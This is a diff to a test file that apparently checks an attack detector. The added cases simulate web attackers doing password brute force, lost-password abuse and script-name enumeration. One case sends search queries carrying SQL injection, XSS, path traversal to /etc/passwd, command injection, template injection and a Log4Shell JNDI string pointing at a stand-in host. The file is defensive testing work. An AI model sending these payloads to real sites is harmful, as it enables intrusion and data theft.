@@ -22,6 +22,43 @@ const wellKnown = [
 describe('attackers', () => {
   it.each<[string, readonly Visit[]]>([
     ['tries passwords fast, answered 200', [{ address: foe, ...login, times: 40, every: 3 }]],
+    [
+      'tries passwords where failures are redirected, behind a style sheet that is not there',
+      [
+        { address: foe, ...login, times: 200, every: 2, status: 302 },
+        { address: foe, target: '/x.css', times: 400, every: 1, status: 404 },
+      ],
+    ],
+    [
+      'tries passwords beside an action that asks for a new one',
+      [
+        { address: foe, target: '/' },
+        { address: foe, target: '/x.css', status: 404 },
+        { address: foe, method: 'POST', target: '/wp-login.php?action=lostpassword', times: 490, every: 75 },
+      ],
+    ],
+    [
+      'attacks through a search',
+      [
+        { address: foe, target: '/x.css' },
+        ...[
+          '%27%20or%201=1--',
+          '<script>alert(1)</script>',
+          '../../../../etc/passwd',
+          '${jndi:ldap://x.example/a}',
+          ';cat%20/etc/x',
+          '{{7*7}}',
+        ].map((q, at): Visit => ({ address: foe, from: at * 120, target: `/?q=${q}` })),
+      ],
+    ],
+    [
+      'numbers its scripts',
+      [
+        { address: foe, target: '/' },
+        { address: foe, target: '/x.css' },
+        { address: foe, target: (n) => `/wp${String(n)}.php`, times: 300, every: 1, status: 404 },
+      ],
+    ],
     ['tries passwords fast, answered 403', [{ address: foe, ...login, times: 40, every: 3, status: 403 }]],
     [
       'tries passwords with // and %77',
